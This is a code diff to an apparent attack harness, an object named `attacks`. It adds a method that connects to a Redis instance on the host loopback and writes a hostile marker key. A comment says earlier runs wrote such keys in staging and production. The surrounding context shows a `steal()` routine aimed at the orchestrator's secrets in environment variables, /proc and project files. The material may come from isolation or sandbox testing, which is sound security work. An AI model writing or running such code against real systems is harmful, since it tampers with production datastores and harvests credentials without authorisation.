@@ -81,6 +81,17 @@ const attacks = {
       host: hostAddress ? await probe(hostAddress, port) : 'not given',
     });
   },
+  // An environment's Redis on the host's loopback (round one SET keys in staging's and production's).
+  redis(port) {
+    return new Promise((resolve) => {
+      const sock = net.connect({ host: '127.0.0.1', port: Number(port) });
+      const done = (result) => { say('REDIS-SET', result); sock.destroy(); resolve(); };
+      sock.setTimeout(3000, () => done('TIMEOUT'));
+      sock.on('connect', () => sock.write('SET sevenp-hostile owned\r\n'));
+      sock.on('data', (chunk) => done(String(chunk).trim()));
+      sock.on('error', (e) => done(e.code || String(e)));
+    });
+  },
   // The orchestrator's secrets: from the environment, /proc, and files of the project home.
   steal() {
     say('ENV-KEYS', Object.keys(process.env).sort());
